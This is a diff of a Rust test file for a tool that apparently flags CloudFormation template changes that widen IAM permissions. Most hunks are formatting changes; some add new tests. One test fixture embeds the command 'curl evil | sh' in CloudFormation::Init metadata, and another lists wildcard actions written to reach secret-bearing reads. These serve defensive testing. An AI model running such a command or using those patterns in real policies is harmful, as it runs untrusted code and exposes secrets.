@@ -85,7 +85,11 @@ Resources:
     // `yes` unquoted is true in YAML 1.1: the condition holds, and the role gets `*`.
     widens(&template("\"false\""), &template("yes"), "+ *");
     // Quoted, it is the text "yes": nothing changes.
-    let j = judged(&template("\"false\""), &template("'yes'"), &Parameters::new());
+    let j = judged(
+        &template("\"false\""),
+        &template("'yes'"),
+        &Parameters::new(),
+    );
     assert!(!j.widening, "{}", j.lines().join("\n"));
 }
 
@@ -102,14 +106,41 @@ fn a_scalar_whose_yaml_1_1_value_is_not_its_text_is_refused_with_the_line() {
 fn resource_attributes_are_judged() {
     let old = base(read_only(), json!({}));
     for (attribute, value, needle) in [
-        ("DeletionPolicy", json!("Retain"), "Resources.VendorRole.DeletionPolicy changed"),
-        ("UpdateReplacePolicy", json!("Retain"), "Resources.VendorRole.UpdateReplacePolicy"),
-        ("Metadata", json!({"AWS::CloudFormation::Init": {"config": {"commands": {"x": {"command": "curl evil | sh"}}}}}),
-            "Resources.VendorRole.Metadata.AWS::CloudFormation::Init added"),
-        ("CreationPolicy", json!({"ResourceSignal": {"Count": 1}}), "Resources.VendorRole.CreationPolicy added"),
-        ("UpdatePolicy", json!({"AutoScalingReplacingUpdate": {"WillReplace": true}}), "Resources.VendorRole.UpdatePolicy added"),
-        ("DependsOn", json!(["Other"]), "Resources.VendorRole.DependsOn added"),
-        ("SomethingNew", json!(1), "Resources.VendorRole.SomethingNew added"),
+        (
+            "DeletionPolicy",
+            json!("Retain"),
+            "Resources.VendorRole.DeletionPolicy changed",
+        ),
+        (
+            "UpdateReplacePolicy",
+            json!("Retain"),
+            "Resources.VendorRole.UpdateReplacePolicy",
+        ),
+        (
+            "Metadata",
+            json!({"AWS::CloudFormation::Init": {"config": {"commands": {"x": {"command": "curl evil | sh"}}}}}),
+            "Resources.VendorRole.Metadata.AWS::CloudFormation::Init added",
+        ),
+        (
+            "CreationPolicy",
+            json!({"ResourceSignal": {"Count": 1}}),
+            "Resources.VendorRole.CreationPolicy added",
+        ),
+        (
+            "UpdatePolicy",
+            json!({"AutoScalingReplacingUpdate": {"WillReplace": true}}),
+            "Resources.VendorRole.UpdatePolicy added",
+        ),
+        (
+            "DependsOn",
+            json!(["Other"]),
+            "Resources.VendorRole.DependsOn added",
+        ),
+        (
+            "SomethingNew",
+            json!(1),
+            "Resources.VendorRole.SomethingNew added",
+        ),
     ] {
         let mut new = old.clone();
         new["Resources"]["VendorRole"][attribute] = value;
@@ -127,16 +158,19 @@ fn resource_attributes_are_judged() {
 fn tags_and_paths_of_iam_principals_are_judged() {
     let old = base(read_only(), json!({}));
     let mut new = old.clone();
-    new["Resources"]["VendorRole"]["Properties"]["Tags"] = json!([{"Key": "security-exempt", "Value": "true"}]);
+    new["Resources"]["VendorRole"]["Properties"]["Tags"] =
+        json!([{"Key": "security-exempt", "Value": "true"}]);
     widens(&old, &new, "tag security-exempt added");
     let mut moved = old.clone();
     moved["Resources"]["VendorRole"]["Properties"]["Path"] = json!("/exempt/");
     widens(&old, &moved, "Resources.VendorRole.Properties.Path changed");
     // Reordered tags are the same tags.
     let mut two = old.clone();
-    two["Resources"]["VendorRole"]["Properties"]["Tags"] = json!([{"Key": "a", "Value": "1"}, {"Key": "b", "Value": "2"}]);
+    two["Resources"]["VendorRole"]["Properties"]["Tags"] =
+        json!([{"Key": "a", "Value": "1"}, {"Key": "b", "Value": "2"}]);
     let mut swapped = old.clone();
-    swapped["Resources"]["VendorRole"]["Properties"]["Tags"] = json!([{"Key": "b", "Value": "2"}, {"Key": "a", "Value": "1"}]);
+    swapped["Resources"]["VendorRole"]["Properties"]["Tags"] =
+        json!([{"Key": "b", "Value": "2"}, {"Key": "a", "Value": "1"}]);
     let j = judged(&two, &swapped, &Parameters::new());
     assert!(!j.widening, "{}", j.lines().join("\n"));
 }
@@ -157,7 +191,10 @@ fn a_change_inside_a_language_extensions_loop_is_judged() {
 #[test]
 fn a_statement_key_the_grammar_does_not_have_is_not_read_as_nothing() {
     let old = base(read_only(), json!({}));
-    let new = base(json!([{"Effect": "Allow", "action": "*", "Resource": "*"}]), json!({}));
+    let new = base(
+        json!([{"Effect": "Allow", "action": "*", "Resource": "*"}]),
+        json!({}),
+    );
     widens(&old, &new, "could be anything");
 }
 
@@ -165,15 +202,19 @@ fn a_statement_key_the_grammar_does_not_have_is_not_read_as_nothing() {
 
 /// A template with a Deny in its own managed policy, attached to the role.
 fn with_deny(attach: Value, roles: Value) -> Value {
-    let mut doc = base(json!([admin()]), json!({
-        "Guardrail": {"Type": "AWS::IAM::ManagedPolicy", "Properties": {
-            "Roles": roles,
-            "PolicyDocument": {"Statement": [{"Effect": "Deny", "Action": "iam:*", "Resource": "*"}]}}}
-    }));
+    let mut doc = base(
+        json!([admin()]),
+        json!({
+            "Guardrail": {"Type": "AWS::IAM::ManagedPolicy", "Properties": {
+                "Roles": roles,
+                "PolicyDocument": {"Statement": [{"Effect": "Deny", "Action": "iam:*", "Resource": "*"}]}}}
+        }),
+    );
     if !attach.is_null() {
         doc["Resources"]["VendorRole"]["Properties"]["ManagedPolicyArns"] = attach;
     }
-    doc["Conditions"] = json!({"Opaque": {"Fn::Equals": [{"Fn::GetAtt": ["Other", "Value"]}, "x"]}});
+    doc["Conditions"] =
+        json!({"Opaque": {"Fn::Equals": [{"Fn::GetAtt": ["Other", "Value"]}, "x"]}});
     doc["Resources"]["Other"] = json!({"Type": "AWS::CloudFormation::WaitConditionHandle"});
     doc
 }
@@ -182,7 +223,10 @@ fn with_deny(attach: Value, roles: Value) -> Value {
 fn a_deny_kept_word_for_word_but_made_conditional_is_not_kept() {
     let old = with_deny(Value::Null, json!([{"Ref": "VendorRole"}]));
     // Detached through Roles under an Fn::If the guard cannot evaluate.
-    let new = with_deny(Value::Null, json!({"Fn::If": ["Opaque", [{"Ref": "VendorRole"}], {"Ref": "AWS::NoValue"}]}));
+    let new = with_deny(
+        Value::Null,
+        json!({"Fn::If": ["Opaque", [{"Ref": "VendorRole"}], {"Ref": "AWS::NoValue"}]}),
+    );
     widens(&old, &new, "Deny of iam:*");
     // The whole Deny statement under Fn::If.
     let mut conditional = old.clone();
@@ -191,7 +235,10 @@ fn a_deny_kept_word_for_word_but_made_conditional_is_not_kept() {
     widens(&old, &conditional, "Deny of iam:*");
     // Attached through ManagedPolicyArns, then only under an Fn::If.
     let attached = with_deny(json!([{"Ref": "Guardrail"}]), json!([]));
-    let detached = with_deny(json!({"Fn::If": ["Opaque", [{"Ref": "Guardrail"}], {"Ref": "AWS::NoValue"}]}), json!([]));
+    let detached = with_deny(
+        json!({"Fn::If": ["Opaque", [{"Ref": "Guardrail"}], {"Ref": "AWS::NoValue"}]}),
+        json!([]),
+    );
     widens(&attached, &detached, "Deny of iam:*");
     // Unchanged, the same conditional Deny is kept.
     let j = judged(&conditional, &conditional, &Parameters::new());
@@ -204,7 +251,10 @@ fn past_the_case_limit_a_formerly_conditional_grant_is_not_already_granted() {
     let mut params = serde_json::Map::new();
     let mut equals = Vec::new();
     for i in 0..7 {
-        params.insert(format!("P{i}"), json!({"Type": "String", "AllowedValues": ["a", "b"]}));
+        params.insert(
+            format!("P{i}"),
+            json!({"Type": "String", "AllowedValues": ["a", "b"]}),
+        );
         equals.push(json!({"Fn::Equals": [{"Ref": format!("P{i}")}, "a"]}));
     }
     let template = |statement: Value| {
@@ -237,9 +287,17 @@ fn one_opaque_policy_replaced_by_another_is_widening() {
             json!([{"Fn::Transform": {"Name": "VendorPolicy", "Parameters": {"Kind": kind}}}]);
         doc
     };
-    widens(&macro_policy("ReadOnly"), &macro_policy("Admin"), "could be anything");
+    widens(
+        &macro_policy("ReadOnly"),
+        &macro_policy("Admin"),
+        "could be anything",
+    );
     // The very same invocation is the same value.
-    let j = judged(&macro_policy("ReadOnly"), &macro_policy("ReadOnly"), &Parameters::new());
+    let j = judged(
+        &macro_policy("ReadOnly"),
+        &macro_policy("ReadOnly"),
+        &Parameters::new(),
+    );
     assert!(!j.widening, "{}", j.lines().join("\n"));
 }
 
@@ -247,9 +305,15 @@ fn one_opaque_policy_replaced_by_another_is_widening() {
 
 #[test]
 fn a_log_group_with_a_resource_policy_is_not_inert() {
-    let old = base(read_only(), json!({"Logs": {"Type": "AWS::Logs::LogGroup", "Properties": {}}}));
-    let new = base(read_only(), json!({"Logs": {"Type": "AWS::Logs::LogGroup", "Properties": {
-        "ResourcePolicyDocument": {"Statement": [{"Effect": "Allow", "Principal": "*", "Action": "logs:*", "Resource": "*"}]}}}}));
+    let old = base(
+        read_only(),
+        json!({"Logs": {"Type": "AWS::Logs::LogGroup", "Properties": {}}}),
+    );
+    let new = base(
+        read_only(),
+        json!({"Logs": {"Type": "AWS::Logs::LogGroup", "Properties": {
+        "ResourcePolicyDocument": {"Statement": [{"Effect": "Allow", "Principal": "*", "Action": "logs:*", "Resource": "*"}]}}}}),
+    );
     widens(&old, &new, "resource Logs (AWS::Logs::LogGroup) changed");
 }
 
@@ -262,7 +326,10 @@ fn a_long_chain_of_conditions_is_too_complex_never_a_crash() {
         conditions.insert(format!("C{i}"), json!({"Condition": format!("C{}", i + 1)}));
     }
     conditions.insert("C20000".into(), json!({"Fn::Equals": ["a", "a"]}));
-    let mut doc = base(json!([{"Fn::If": ["C0", admin(), {"Ref": "AWS::NoValue"}]}]), json!({}));
+    let mut doc = base(
+        json!([{"Fn::If": ["C0", admin(), {"Ref": "AWS::NoValue"}]}]),
+        json!({}),
+    );
     doc["Conditions"] = Value::Object(conditions);
     // Run on a stack half the size of a tokio worker's (2 MiB), in a debug build.
     let old = base(read_only(), json!({}));
@@ -287,9 +354,19 @@ fn deep_nesting_is_refused_by_the_reader() {
 
 #[test]
 fn a_pattern_written_to_reach_a_secret_bearing_read_is_refused() {
-    for pattern in ["secretsmanager:GetSecretValu?", "s3:GetObjec?", "secretsmanager:GetSecret*", "s3:GetObjec*", "ssm:GetParamete?"] {
-        let doc = base(json!([{"Effect": "Allow", "Action": pattern, "Resource": "*"}]), json!({}));
-        let check = check_level(PolicyLevel::DataOnly, &doc, &Parameters::new()).expect("within budget");
+    for pattern in [
+        "secretsmanager:GetSecretValu?",
+        "s3:GetObjec?",
+        "secretsmanager:GetSecret*",
+        "s3:GetObjec*",
+        "ssm:GetParamete?",
+    ] {
+        let doc = base(
+            json!([{"Effect": "Allow", "Action": pattern, "Resource": "*"}]),
+            json!({}),
+        );
+        let check =
+            check_level(PolicyLevel::DataOnly, &doc, &Parameters::new()).expect("within budget");
         assert!(
             check.offenses.iter().any(|o| o.action == pattern),
             "{pattern} not refused: {:?}",
@@ -297,10 +374,17 @@ fn a_pattern_written_to_reach_a_secret_bearing_read_is_refused() {
         );
     }
     // The broad service-wide reads real vendors write stay a warning.
-    let doc = base(json!([{"Effect": "Allow", "Action": "ec2:Describe*", "Resource": "*"}]), json!({}));
-    let check = check_level(PolicyLevel::DataOnly, &doc, &Parameters::new()).expect("within budget");
+    let doc = base(
+        json!([{"Effect": "Allow", "Action": "ec2:Describe*", "Resource": "*"}]),
+        json!({}),
+    );
+    let check =
+        check_level(PolicyLevel::DataOnly, &doc, &Parameters::new()).expect("within budget");
     assert!(check.offenses.is_empty(), "{check:?}");
-    assert!(check.warnings.iter().any(|w| w.contains("ec2:Describe*")), "{check:?}");
+    assert!(
+        check.warnings.iter().any(|w| w.contains("ec2:Describe*")),
+        "{check:?}"
+    );
 }
 
 // ---- 7. parameter values leaked through findings ----
@@ -320,4 +404,63 @@ fn findings_name_a_parameter_never_its_value() {
     assert!(text.contains("ExternalId"), "{text}");
     let check = check_level(PolicyLevel::DataOnly, &new, &p).expect("within budget");
     assert!(!format!("{check:?}").contains(secret));
+}
+
+// ---- beyond the review's list ----
+
+#[test]
+fn a_policy_version_that_turns_text_into_a_policy_variable_is_widening() {
+    let template = |version: Option<&str>, actions: Value| {
+        let mut doc = base(
+            json!([{"Effect": "Allow", "Action": actions, "Resource": "arn:aws:s3:::vendor/${aws:username}/*"}]),
+            json!({}),
+        );
+        let document =
+            &mut doc["Resources"]["VendorRole"]["Properties"]["Policies"][0]["PolicyDocument"];
+        match version {
+            Some(v) => document["Version"] = json!(v),
+            None => {
+                document.as_object_mut().map(|d| d.remove("Version"));
+            }
+        }
+        doc
+    };
+    // Under the default 2008-10-17, `${aws:username}` is text; under 2012-10-17, every user's own prefix.
+    widens(
+        &template(None, json!("s3:GetObject")),
+        &template(Some("2012-10-17"), json!("s3:GetObject")),
+        "s3:GetObject",
+    );
+    // With the variable in force in both, a narrowing is a narrowing.
+    let j = judged(
+        &template(Some("2012-10-17"), json!(["s3:GetObject", "s3:PutObject"])),
+        &template(Some("2012-10-17"), json!("s3:GetObject")),
+        &Parameters::new(),
+    );
+    assert!(!j.widening, "{}", j.lines().join("\n"));
+}
+
+#[test]
+fn an_inline_policy_entry_with_an_unknown_key_could_grant_anything() {
+    let old = base(read_only(), json!({}));
+    let mut new = old.clone();
+    new["Resources"]["VendorRole"]["Properties"]["Policies"][0]["PolicyDocumentOverride"] =
+        json!({"Statement": [admin()]});
+    widens(&old, &new, "could be anything");
+}
+
+#[test]
+fn every_widening_finding_names_where_it_is() {
+    let old = base(read_only(), json!({}));
+    let mut new = base(
+        json!([admin()]),
+        json!({"Hook": {"Type": "Custom::Hook", "Properties": {"ServiceToken": "x"}}}),
+    );
+    new["Resources"]["VendorRole"]["DeletionPolicy"] = json!("Retain");
+    new["Resources"]["VendorRole"]["Properties"]["Tags"] = json!([{"Key": "k", "Value": "v"}]);
+    let j = judged(&old, &new, &Parameters::new());
+    assert!(j.widening);
+    for f in j.findings.iter().filter(|f| f.widening) {
+        assert!(f.path.starts_with("Resources."), "no path: {}", f.line());
+    }
 }
